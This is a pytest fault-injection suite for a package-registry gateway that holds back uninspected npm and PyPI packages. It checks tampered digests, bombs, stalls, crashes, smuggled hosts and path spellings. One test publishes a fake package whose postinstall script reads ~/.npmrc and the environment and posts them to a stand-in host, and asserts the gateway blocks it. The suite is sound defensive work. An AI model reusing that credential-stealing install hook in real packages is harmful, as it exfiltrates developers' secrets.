"""Whatever upstream, clients and machines do: nothing uninspected is served, and nothing admitted is lost.

Each test runs the command itself before the registry simulator, and asks as a client does.
"""

import contextlib
import os
import signal
import socket
import sqlite3
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx2
import pytest

from gateway.processes import children
from gateway.running import gateway
from simulator import RegistrySimulator, misbehaviour

pytestmark = pytest.mark.faults

TARBALL = "/npm/left-pad/-/left-pad-1.0.0.tgz"
#: A page of the other hosts of loopback must not be reachable from a registry that is not at it.
QUICK = '[gateway]\nmetadata_max_age = "0"\nwait = "20s"\n'


@pytest.fixture
def stocked(registry):
    registry.npm.publish("left-pad", "1.0.0", files={"index.js": "module.exports = s => s\n"})
    registry.npm.publish("left-pad", "1.1.0")
    registry.npm.publish("other", "1.0.0")
    registry.pypi.publish("demo", "1.0")
    return registry


def tarball(registry, name="left-pad", version="1.0.0"):
    document = registry.npm.packument(name)
    path = document["versions"][version]["dist"]["tarball"].removeprefix(registry.npm_url)
    return registry.npm._tarballs[path]


def is_error(answer, *statuses):
    assert answer.status_code in statuses, (answer.status_code, answer.text[:300])
    assert answer.json()["error"]
    if answer.status_code == 503:
        assert int(answer.headers["retry-after"]) > 0


def test_the_bytes_that_upstream_promised_are_served(stocked, tmp_path):
    with gateway(tmp_path, stocked) as running:
        for _ in range(2):
            answer = running.get(TARBALL)
            assert answer.status_code == 200
            assert answer.content == tarball(stocked)
        assert len([each for each in stocked.asked("npm") if each.path.endswith("left-pad-1.0.0.tgz")]) == 1


def test_other_bytes_than_promised_are_not(stocked, tmp_path):
    stocked.misbehave("left-pad-1.0.0.tgz", misbehaviour.wrong_digest())
    with gateway(tmp_path, stocked) as running:
        is_error(running.get(TARBALL), 403, 503)
        is_error(running.get(TARBALL), 403, 503)
        assert running.get("/npm/left-pad/-/left-pad-1.1.0.tgz").status_code == 200


@pytest.mark.parametrize(
    "how",
    [
        misbehaviour.cut_body(),
        misbehaviour.status(503),
        misbehaviour.status(500),
        misbehaviour.status(429, retry_after=3600),
        misbehaviour.bomb(50_000_000),
    ],
    ids=["cut", "503", "500", "429", "bomb"],
)
def test_a_file_that_cannot_be_had_is_told_as_such_and_had_later(stocked, tmp_path, how):
    stocked.misbehave("left-pad-1.0.0.tgz", how)
    with gateway(tmp_path, stocked, configuration=QUICK) as running:
        is_error(running.get(TARBALL), 403, 503)
        stocked.behave()
        answer = running.get(TARBALL)
        assert answer.status_code in (200, 403)
        if answer.status_code == 200:
            assert answer.content == tarball(stocked)


def test_a_stalled_file_is_not_waited_for_longer_than_clients_wait(stocked, tmp_path):
    stocked.misbehave("left-pad-1.0.0.tgz", misbehaviour.stall(15))
    with gateway(tmp_path, stocked, configuration='[gateway]\nwait = "2s"\n') as running:
        began = time.monotonic()
        is_error(running.get(TARBALL), 503)
        assert time.monotonic() - began < 8
        assert running.get("/npm/other/-/other-1.0.0.tgz").status_code == 200


@pytest.mark.parametrize(
    "how",
    [
        misbehaviour.status(503),
        misbehaviour.malformed(),
        misbehaviour.malformed(b"[]"),
        misbehaviour.malformed(b""),
        misbehaviour.wrong_package("other"),
        misbehaviour.huge_body(300_000_000),
        misbehaviour.redirect_loop(),
        misbehaviour.bomb(200_000_000),
        misbehaviour.status(304),
    ],
    ids=["503", "half", "list", "empty", "another", "huge", "loop", "bomb", "304"],
)
def test_a_document_that_cannot_be_trusted_is_not_passed_on(stocked, tmp_path, how):
    stocked.misbehave(lambda path: path == "/left-pad", how)
    with gateway(tmp_path, stocked) as running:
        is_error(running.get("/npm/left-pad"), 503)
        is_error(running.get(TARBALL), 503)
        assert running.get("/npm/other").status_code == 200


def test_no_redirect_leads_into_a_network_that_upstream_is_not_in(stocked, tmp_path):
    stocked.misbehave(lambda path: path == "/left-pad", misbehaviour.redirect_to("http://10.0.0.1/left-pad"))
    with gateway(tmp_path, stocked) as running:
        is_error(running.get("/npm/left-pad"), 503)


def test_what_was_admitted_is_served_while_upstream_is_away(stocked, tmp_path):
    with gateway(tmp_path, stocked, configuration=QUICK) as running:
        before = running.get("/npm/left-pad").json()
        assert running.get(TARBALL).status_code == 200
        stocked.misbehave(lambda _: True, misbehaviour.status(503))
        assert running.get("/npm/left-pad").json() == before
        assert running.get(TARBALL).content == tarball(stocked)
        is_error(running.get("/npm/left-pad/-/left-pad-1.1.0.tgz"), 503)
        is_error(running.get("/npm/other"), 503)
    # And by the next process, which has seen nothing of it.
    with gateway(tmp_path, stocked, configuration=QUICK) as running:
        assert running.get(TARBALL).content == tarball(stocked)
        is_error(running.get("/npm/left-pad/-/left-pad-1.1.0.tgz"), 503)


def test_a_version_published_anew_with_other_bytes(stocked, tmp_path):
    with gateway(tmp_path, stocked, configuration=QUICK) as running:
        first = running.get(TARBALL).content
        stocked.npm.unpublish("left-pad", "1.0.0")
        running.get("/npm/left-pad")
        stocked.npm.publish("left-pad", "1.0.0", files={"index.js": "module.exports = 'another'\n"})
        document = running.get("/npm/left-pad").json()
        assert "1.0.0" not in document["versions"]
        answer = running.get(TARBALL)
        assert answer.status_code in (200, 403)
        if answer.status_code == 200:
            assert answer.content == first
        told = running.get("/-/customhouse/explain/pkg:npm/left-pad").json()
        assert "bytes-replaced" in str(told)


def test_what_evidence_of_before_answers_for_is_pinned_too(stocked, tmp_path):
    """Somebody moves to another database: the archives are known, and nothing of what their names stand for."""
    with gateway(tmp_path, stocked) as running:
        first = running.get(TARBALL).content
    for left in (tmp_path / "kept").glob("gateway.sqlite*"):
        left.unlink()
    stocked.requests.clear()
    with gateway(tmp_path, stocked, configuration=QUICK) as running:
        assert running.get(TARBALL).content == first
        assert not [each for each in stocked.asked("npm") if each.path.endswith(".tgz")]
        stocked.npm.unpublish("left-pad", "1.0.0")
        stocked.npm.publish("left-pad", "1.0.0", files={"index.js": "module.exports = 'another'\n"})
        assert "1.0.0" not in running.get("/npm/left-pad").json()["versions"]
        assert running.get(TARBALL).content == first
        assert running.events("alarm")
        token = (tmp_path / "kept" / "admin-token").read_text().strip()
        ledger = running.get("/-/customhouse/ledger", authorization=f"Bearer {token}").text
        assert ledger.count('"act":"alarm"') == 1


def test_times_that_are_missing_count_from_the_first_sight(stocked, tmp_path):
    stocked.npm.times = False
    with gateway(tmp_path, stocked) as running:
        is_error(running.get("/npm/left-pad"), 403)
        is_error(running.get(TARBALL), 403)
        assert "first seen here" in running.get(TARBALL).text


def test_a_time_that_has_not_come_hides_the_version(stocked, tmp_path):
    ahead = datetime.now(UTC) + timedelta(days=400)
    stocked.misbehave(lambda path: path == "/left-pad", misbehaviour.stale_time(ahead, "1.1.0"))
    with gateway(tmp_path, stocked) as running:
        document = running.get("/npm/left-pad").json()
        assert list(document["versions"]) == ["1.0.0"]
        assert document["dist-tags"]["latest"] == "1.0.0"
        is_error(running.get("/npm/left-pad/-/left-pad-1.1.0.tgz"), 403)


def test_kill_9_of_the_inspecting_process_costs_one_inspection(stocked, tmp_path):
    stocked.misbehave("left-pad-1.0.0.tgz", misbehaviour.stall(3), times=1)
    with gateway(tmp_path, stocked, configuration=QUICK) as running:
        found = []
        asking = threading.Thread(target=lambda: found.append(running.get(TARBALL)))
        asking.start()
        time.sleep(1)
        (worker,) = children(running.process.pid)
        os.kill(worker, signal.SIGKILL)
        asking.join(60)
        assert found[0].status_code in (200, 503)
        again = running.get(TARBALL)
        assert again.content == tarball(stocked)
        assert running.events("inspection.ended")


def test_kill_9_of_the_gateway_loses_nothing(stocked, tmp_path):
    with gateway(tmp_path, stocked) as running:
        assert running.get(TARBALL).status_code == 200
        stocked.misbehave("left-pad-1.1.0.tgz", misbehaviour.slow(50))
        asking = threading.Thread(target=swallow, args=(running, "/npm/left-pad/-/left-pad-1.1.0.tgz"), daemon=True)
        asking.start()
        time.sleep(1)
        running.stop(signal.SIGKILL)
    stocked.behave()
    wait_until_ended(tmp_path)
    stocked.requests.clear()
    with gateway(tmp_path, stocked) as running:
        assert running.get(TARBALL).content == tarball(stocked)
        assert not [each for each in stocked.asked("npm") if each.path.endswith(".tgz")]
        assert running.get("/npm/left-pad/-/left-pad-1.1.0.tgz").content == tarball(stocked, version="1.1.0")


def test_a_stored_file_that_was_damaged_is_not_served(stocked, tmp_path):
    with gateway(tmp_path, stocked) as running:
        assert running.get(TARBALL).status_code == 200
    (blob,) = [path for path in (tmp_path / "kept" / "blobs").rglob("*") if path.is_file()]
    blob.chmod(0o600)
    blob.write_bytes(b"x" * blob.stat().st_size)
    with gateway(tmp_path, stocked) as running:
        answer = running.get(TARBALL)
        assert answer.status_code == 503 or answer.content == tarball(stocked)


def test_a_stored_file_that_is_gone_is_fetched_again(stocked, tmp_path):
    with gateway(tmp_path, stocked) as running:
        assert running.get(TARBALL).status_code == 200
    (blob,) = [path for path in (tmp_path / "kept" / "blobs").rglob("*") if path.is_file()]
    blob.unlink()
    with gateway(tmp_path, stocked) as running:
        assert running.get(TARBALL).content == tarball(stocked)


def test_a_database_that_is_gone_stops_everything_until_it_is_back(stocked, tmp_path):
    with gateway(tmp_path, stocked) as running:
        assert running.get(TARBALL).status_code == 200
        database = tmp_path / "kept" / "gateway.sqlite"
        aside = database.with_suffix(".aside")
        database.rename(aside)
        time.sleep(3)
        is_error(running.get(TARBALL), 503)
        is_error(running.get("/npm/left-pad"), 503)
        aside.rename(database)
        time.sleep(2)
        assert running.get(TARBALL).content == tarball(stocked)


def test_downloads_that_clients_break_off_leave_the_gateway_whole(stocked, tmp_path):
    stocked.npm.publish("large", "1.0.0", files={"index.js": "1\n", "data.bin": os.urandom(4_000_000)})
    with gateway(tmp_path, stocked) as running:
        assert running.get("/npm/large/-/large-1.0.0.tgz").status_code == 200
        for _ in range(20):
            with httpx2.stream("GET", f"{running.url}/npm/large/-/large-1.0.0.tgz") as answer:
                next(answer.iter_bytes(1000))
        slow = socket.create_connection(("127.0.0.1", int(running.url.rpartition(":")[2])))
        slow.sendall(b"GET /npm/large/-/large-1.0.0.tgz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        assert running.get(TARBALL).status_code == 200
        slow.close()


@pytest.mark.parametrize(
    "way",
    [
        {"range": "bytes=0-10"},
        {"if_none_match": "*"},
        {"x_original_url": "/"},
        {"x_forwarded_host": "registry.example"},
        {"authorization": "Basic YTpi"},
        {"cache_control": "no-cache"},
        {"npm_in_ci": "true"},
        {"host": "registry.example"},
    ],
)
@pytest.mark.parametrize("query", ["", "?inspected=true", "?cache=bypass"])
def test_no_header_or_query_opens_what_is_held(held_gateway, way, query):
    answer = held_gateway.get(f"/npm/young/-/young-1.0.0.tgz{query}", **way)
    assert answer.status_code in (401, 403, 421)
    assert b"\x1f\x8b" not in answer.content[:2]


@pytest.mark.parametrize(
    "path",
    [
        "/npm/young/-/young-1.0.0.tgz/",
        "/npm//young/-/young-1.0.0.tgz",
        "/npm/young/-/%79oung-1.0.0.tgz",
        "/npm/young/-/young-1%2e0.0.tgz",
        "/npm/young/-/..%2fyoung-1.0.0.tgz",
        "/npm/young/%2d/young-1.0.0.tgz",
        "/npm/YOUNG/-/young-1.0.0.tgz",
        "/npm/young/-/young-1.0.0.tgz%00",
        "/npm/young/-/young-1.0.0.tgz;x",
        "/npm/left-pad/-/young-1.0.0.tgz",
        "/npm/left-pad/-/../../young/-/young-1.0.0.tgz",
        "/npm/./young/-/young-1.0.0.tgz",
        "/young/-/young-1.0.0.tgz",
        "/npm/http://registry.example/young/-/young-1.0.0.tgz",
    ],
)
def test_no_spelling_opens_what_is_held(held_gateway, path):
    answer = held_gateway.get(path)
    assert answer.status_code in (400, 403, 404)
    assert b"\x1f\x8b" not in answer.content[:2]


@pytest.fixture(scope="module")
def held_gateway(tmp_path_factory):
    with RegistrySimulator() as simulator:
        simulator.npm.publish("left-pad", "1.0.0")
        simulator.npm.publish("young", "1.0.0", published=datetime.now(UTC) - timedelta(hours=1))
        with gateway(tmp_path_factory.mktemp("held"), simulator) as running:
            yield running


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("localhost", 200),
        ("LOCALHOST:80", 200),
        ("127.0.0.1:1", 200),
        ("[::1]:1", 200),
        ("attacker.example", 421),
        ("attacker.example:80", 421),
        ("127.0.0.1.attacker.example", 421),
        ("localhost.attacker.example:1", 421),
    ],
)
def test_a_page_whose_name_leads_to_this_machine_reads_nothing(held_gateway, host, status):
    """A browser takes what it asks under the page's own name for the page's own, and lets it read it."""
    assert held_gateway.get("/npm/left-pad", host=host).status_code == status
    assert held_gateway.get("/-/customhouse/explain/pkg:npm/young", host=host).status_code == status


def test_what_the_list_shows_uninspected_is_stopped_at_the_wall(stocked, tmp_path):
    """More versions at once than are inspected before the list is told, and one of them is not what it seems."""
    came = datetime.now(UTC) - timedelta(days=8)
    steal = (
        "const fs = require('fs'), os = require('os'), https = require('https')\n"
        "const r = https.request({ host: 'collector.invalid', method: 'POST' })\n"
        "r.write(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') + JSON.stringify(process.env)); r.end()\n"
    )
    for number in range(5):
        files = {"index.js": "1\n"} | ({"setup.js": steal} if number == 1 else {})
        scripts = {"postinstall": "node setup.js"} if number == 1 else {}
        stocked.npm.publish("many", f"1.{number}.0", files=files, scripts=scripts, published=came)
    stocked.npm.tag("many", "beta", "1.1.0")
    with gateway(tmp_path, stocked) as running:
        shown = running.get("/npm/many").json()["versions"]
        assert "1.1.0" in shown, "only the newest two are inspected for the list"
        is_error(running.get("/npm/many/-/many-1.1.0.tgz"), 403)
        time.sleep(1)
        assert "1.1.0" not in running.get("/npm/many").json()["versions"], "and from then on it is hidden"


def test_head_of_what_is_held_is_refused_too(held_gateway):
    assert httpx2.head(f"{held_gateway.url}/npm/young/-/young-1.0.0.tgz").status_code == 403


def test_the_ledger_cannot_be_rewritten_in_place(stocked, tmp_path):
    with gateway(tmp_path, stocked):
        pass
    with sqlite3.connect(tmp_path / "kept" / "gateway.sqlite") as connection:
        tables = {name for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'")}
    assert any("ledger" in name for name in tables)


def swallow(running, path):
    with contextlib.suppress(httpx2.HTTPError):
        running.get(path)


def wait_until_ended(folder):
    """Wait until no process has anything open below a folder."""
    for _ in range(100):
        if not any(target.startswith(str(folder)) for target in open_files()):
            return
        time.sleep(0.1)
    raise AssertionError(f"something still has files of {folder} open")


def open_files():
    """The files that any process has open."""
    for link in Path("/proc").glob("[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            yield str(link.readlink())
